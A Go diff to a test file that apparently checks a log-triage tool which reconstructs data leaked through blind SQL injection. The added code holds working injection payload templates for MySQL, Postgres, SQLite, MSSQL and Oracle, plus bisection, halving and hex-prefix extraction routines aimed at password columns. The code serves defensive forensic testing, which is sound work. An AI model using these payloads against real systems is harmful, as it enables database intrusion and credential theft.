@@ -28,6 +28,7 @@ type way struct {
 	folded  bool // equality without case: letters come out in one of two cases
 	charset string
 	escape  bool   // signs go into classes
+	hex     bool   // the text in hexadecimal is what is read
 	length  string // a question about the length, %[1]s and %[2]d
 }
 
@@ -336,6 +337,39 @@ func byString(w *way, o *oracle) {
 	}
 }
 
+// byHalves asks whether a character is in half of what is left.
+func byHalves(w *way, o *oracle) {
+	for n := 1; !o.send(fmt.Sprintf(w.length, o.expr, n), n == len(o.secret)); n++ {
+	}
+	for pos := 1; pos <= len(o.secret); pos++ {
+		for set := []byte(w.charset); len(set) > 1; {
+			half := set[:len(set)/2]
+			var list []string
+			for _, c := range half {
+				list = append(list, fmt.Sprint(int(c)))
+			}
+			if o.send(fmt.Sprintf(w.test, o.expr, pos, strings.Join(list, ",")), strings.IndexByte(string(half), o.secret[pos-1]) >= 0) {
+				set = half
+			} else {
+				set = set[len(set)/2:]
+			}
+		}
+	}
+}
+
+// byHexPrefix grows a known prefix of the text in hexadecimal by a digit at a time.
+func byHexPrefix(w *way, o *oracle) {
+	all := fmt.Sprintf("%X", o.secret)
+	for n := range len(all) {
+		for _, d := range "6730125489ABCDEF" {
+			if o.send(fmt.Sprintf(w.test, o.expr, all[:n]+string(d)), all[n] == byte(d)) {
+				break
+			}
+		}
+	}
+	o.send(fmt.Sprintf(w.equal, o.expr, all), true)
+}
+
 const (
 	mysqlCell = "(SELECT pw FROM shop.users ORDER BY id LIMIT %d,1)"
 	mysqlWant = "SELECT pw FROM shop.users ORDER BY id LIMIT %d, 1"
@@ -347,6 +381,15 @@ var ways = []way{
 	{name: "mysql or, bracket, comment", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "%[3]v<ASCII(SUBSTR(%[1]s FROM %[2]d FOR 1))", wrap: "') OR (%s)-- -", base: "-1"},
 	{name: "mysql not <=", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "NOT ASCII(SUBSTR(%[1]s,%[2]d,1))<=%[3]v", wrap: " AND %s#", base: "3"},
 	{name: "mysql not between", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ASCII(SUBSTR(%[1]s,%[2]d,1)) NOT BETWEEN 0 AND %[3]v", wrap: "\" AND %s AND \"x\"=\"x", base: "3"},
+	{name: "mysql between", expr: mysqlCell, want: mysqlWant, ask: byBisection, loose: true, test: "ASCII(SUBSTR(%[1]s,%[2]d,1)) BETWEEN %[3]v+1 AND 127", wrap: " AND %s", base: "3"},
+	{name: "mysql >= mid", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ORD(MID(%[1]s,%[2]d,1))>=%[3]v+1", wrap: "') AND (%s) AND ('a'='a", base: "3"},
+	{name: "postgres !=", expr: "(SELECT pw FROM users ORDER BY id OFFSET %d LIMIT 1)", ask: byScan, test: "NOT ASCII(SUBSTRING(%[1]s,%[2]d,1))!=%[3]v", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "mysql in halves", expr: mysqlCell, want: mysqlWant, ask: byHalves, loose: true, charset: "abcdefghijklmnopqrstuvwxyz012345", test: "ASCII(SUBSTR(%[1]s,%[2]d,1)) IN (%[3]s)", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "sqlite hex of one", expr: "(SELECT sql FROM sqlite_master LIMIT %d,1)", ask: byScan, test: "HEX(SUBSTR(%[1]s,%[2]d,1))='%[3]X'", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "mysql hex prefix", expr: mysqlCell, want: mysqlWant, ask: byHexPrefix, folded: true, hex: true, test: "HEX(%[1]s) LIKE '%[2]s%%'", equal: "HEX(%[1]s)='%[2]s'", wrap: " AND %s", base: "3"},
+	{name: "mssql substring =", expr: "(SELECT pw FROM users WHERE id=%d)", ask: byScan, null: true, folded: true, test: "SUBSTRING(%[1]s,%[2]d,1)='%[3]s'", wrap: "' AND %s--", base: "3", length: "LEN(%[1]s)=%[2]d"},
+	{name: "mssql like", expr: "(SELECT pw FROM users WHERE id=%d)", ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", folded: true, test: "%[1]s LIKE '%[2]s%%'", equal: "%[1]s='%[2]s'", wrap: " AND %s", base: "3"},
+	{name: "oracle = chr", expr: "(SELECT pw FROM users WHERE id=%d)", ask: byScan, null: true, test: "SUBSTR(%[1]s,%[2]d,1)=CHR(%[3]v)", wrap: "' AND %s--", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
 	{name: "mysql greatest", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "GREATEST(ASCII(SUBSTR(%[1]s,%[2]d,1)),%[3]v+1)=ASCII(SUBSTR(%[1]s,%[2]d,1))", wrap: " AND %s", base: "3"},
 	{name: "mysql minus", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ASCII(SUBSTR(%[1]s,%[2]d,1))-%[3]v>0", wrap: "^(%s)", base: "0"},
 	{name: "mysql if", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ORD(SUBSTR(%[1]s,%[2]d,1))>%[3]v", wrap: "IF(%s,3,(SELECT 1 UNION SELECT 2))", base: ""},
@@ -391,6 +434,10 @@ var ways = []way{
 // judge holds what was recovered against the secret.
 func (o *oracle) judge(t *testing.T, seed uint64, complete bool) (certain int) {
 	t.Helper()
+	secret := o.secret
+	if o.w.hex {
+		secret = fmt.Sprintf("%X", secret)
+	}
 	result := blind.Recover(func(yield func(*triage.Request) bool) {
 		for i := range o.log {
 			if !yield(&o.log[i]) {
@@ -400,8 +447,8 @@ func (o *oracle) judge(t *testing.T, seed uint64, complete bool) (certain int) {
 	})
 	whole := false
 	for _, r := range result.Reads {
-		if r.Kind == "length" && r.Certain && r.Value != fmt.Sprint(len(o.secret)) {
-			t.Errorf("%s, seed %d: length %s of %q", o.w.name, seed, r.Value, o.secret)
+		if r.Kind == "length" && r.Certain && r.Value != fmt.Sprint(len(secret)) {
+			t.Errorf("%s, seed %d: length %s of %q", o.w.name, seed, r.Value, secret)
 		}
 		if r.Kind != "text" {
 			continue
@@ -411,14 +458,14 @@ func (o *oracle) judge(t *testing.T, seed uint64, complete bool) (certain int) {
 				continue
 			}
 			certain++
-			if c.Pos > len(o.secret) || c.Text != o.secret[c.Pos-1:c.Pos] {
-				t.Errorf("%s, seed %d: character %d of %q is said to be %q for certain", o.w.name, seed, c.Pos, o.secret, c.Text)
+			if c.Pos > len(secret) || c.Text != secret[c.Pos-1:c.Pos] {
+				t.Errorf("%s, seed %d: character %d of %q is said to be %q for certain", o.w.name, seed, c.Pos, secret, c.Text)
 			}
 		}
-		if r.Certain && r.Value != o.secret {
-			t.Errorf("%s, seed %d: %q is said to be %q for certain", o.w.name, seed, o.secret, r.Value)
+		if r.Certain && r.Value != secret {
+			t.Errorf("%s, seed %d: %q is said to be %q for certain", o.w.name, seed, secret, r.Value)
 		}
-		whole = whole || r.Certain && r.Value == o.secret || o.w.folded && strings.EqualFold(r.Value, o.secret) || o.w.loose && r.Value == o.secret
+		whole = whole || r.Certain && r.Value == secret || o.w.folded && strings.EqualFold(r.Value, secret) || o.w.loose && r.Value == secret
 	}
 	if complete && !whole {
 		var got []string
@@ -429,7 +476,7 @@ func (o *oracle) judge(t *testing.T, seed uint64, complete bool) (certain int) {
 			got = append(got, fmt.Sprintf("%+v", g))
 		}
 		q, _ := url.QueryUnescape(o.log[len(o.log)-1].Query)
-		t.Errorf("%s, seed %d: %q came out as\n%s\nlast: %s", o.w.name, seed, o.secret, strings.Join(got, "\n"), q)
+		t.Errorf("%s, seed %d: %q came out as\n%s\nlast: %s", o.w.name, seed, secret, strings.Join(got, "\n"), q)
 	}
 	return certain
 }
